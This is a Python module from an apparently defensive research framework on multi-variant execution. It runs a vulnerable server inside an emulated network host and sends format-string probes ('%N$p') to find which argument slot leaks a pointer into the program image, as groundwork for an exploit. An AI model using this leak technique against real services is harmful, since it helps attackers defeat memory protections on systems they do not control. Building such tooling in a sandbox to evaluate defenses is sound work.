"""The attacker's homework: studying the target variant's build natively.

A format-string exploit needs to know which argument slot holds a code
pointer in the build it attacks. Attackers find that out on a copy of the
binary; so does :func:`leak_slot`: it runs the build natively, inside one
host of the run's emulated network (so the vulnerable program listens on
nothing real), asks it over that host's loopback for ``%1$p|%2$p|...`` and
picks the first slot whose value lies inside the program's own image (read
from its ``/proc/PID/maps``). The slot is a property of the build (its code
and frame layout), not of one run, so it holds in the attacked variant under
MVX; it is cached beside the build.
"""

from __future__ import annotations

import socket
import subprocess
import time
from pathlib import Path
from typing import TYPE_CHECKING

from realmode.net import netns
from realmode.vuln.exploits import image_range, request_path

if TYPE_CHECKING:
    from realmode.net.network import Network

#: Slots asked per request, and the last slot looked at.
_BATCH = 40
_MAX_SLOT = 400


#: The port the studied program listens on (inside its host: nothing else there).
_PORT = 8099


def _get(port: int, path: bytes, timeout: float = 5.0) -> bytes:
    with socket.create_connection(("127.0.0.1", port), timeout=timeout) as sock:
        sock.sendall(b"GET " + path + b" HTTP/1.0\r\n\r\n")
        answer = b""
        while chunk := sock.recv(65536):
            answer += chunk
    return answer


def leak_slot(binary: str, net: "Network", host: str) -> int:
    """The first ``%N$p`` slot that prints a pointer into ``binary``'s image,
    found by running it on ``host`` of the started network ``net``."""
    cache = Path(binary + ".leak-slot")
    if cache.is_file() and cache.stat().st_mtime >= Path(binary).stat().st_mtime:
        return int(cache.read_text())
    batches = _MAX_SLOT // _BATCH
    server = net.popen(host, [binary, str(_PORT), str(batches + 1), "-"], stdout=subprocess.DEVNULL,
                       stderr=subprocess.DEVNULL)
    try:
        with netns.inside(net.node_pid(host)):
            deadline = time.monotonic() + 5.0
            while True:  # the first connection only checks that it listens
                try:
                    socket.create_connection(("127.0.0.1", _PORT), timeout=1.0).close()
                    break
                except ConnectionRefusedError:
                    if time.monotonic() > deadline or server.poll() is not None:
                        raise RuntimeError(f"{binary} did not start listening for the study") from None
                    time.sleep(0.01)
            low, high = image_range(server.pid, binary)
            for first in range(1, _MAX_SLOT, _BATCH):
                probe = "|".join(f"%{n}$p" for n in range(first, first + _BATCH)).encode()
                body = _get(_PORT, request_path(probe)).partition(b"\r\n\r\n")[2].removeprefix(b"hello ")
                for offset, text in enumerate(body.split(b"|")):
                    try:
                        value = int(text, 16)
                    except ValueError:
                        continue
                    if low <= value < high:
                        slot = first + offset
                        cache.write_text(str(slot))
                        return slot
    finally:
        server.kill()
        server.wait()
    raise LookupError(f"{binary}: no argument slot up to {_MAX_SLOT} holds a pointer into the program")
